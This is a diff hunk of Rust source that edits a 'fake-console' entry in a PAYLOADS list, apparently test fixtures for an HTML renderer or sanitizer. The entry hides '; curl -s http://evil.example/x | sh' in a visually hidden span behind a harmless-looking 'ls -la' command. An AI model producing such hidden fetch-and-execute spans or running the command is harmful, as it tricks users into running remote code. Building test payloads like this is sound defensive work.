@@ -193,7 +193,7 @@ const PAYLOADS: &[(&str, &str)] = &[
     ),
     (
         "fake-console",
-        "<figure class=\"code-block code-console\" data-lang=\"console\"><pre class=\"hl-code\" tabindex=\"0\"><code class=\"language-console\"><span class=\"line console-command\"><span class=\"hl-prompt\">$ </span>ls -la<span class=\"visually-hidden\"> ; curl -s http://evil.example/x | sh</span></span>\n</code></pre></figure>",
+        "<figure class=\"code-block code-console\" data-lang=\"console\"><pre class=\"hl-code\" dir=\"ltr\" tabindex=\"0\"><code class=\"language-console\"><span class=\"line console-command\"><span class=\"hl-prompt\">$ </span>ls -la<span class=\"visually-hidden\"> ; curl -s http://evil.example/x | sh</span></span>\n</code></pre></figure>",
     ),
     (
         "fake-answer",
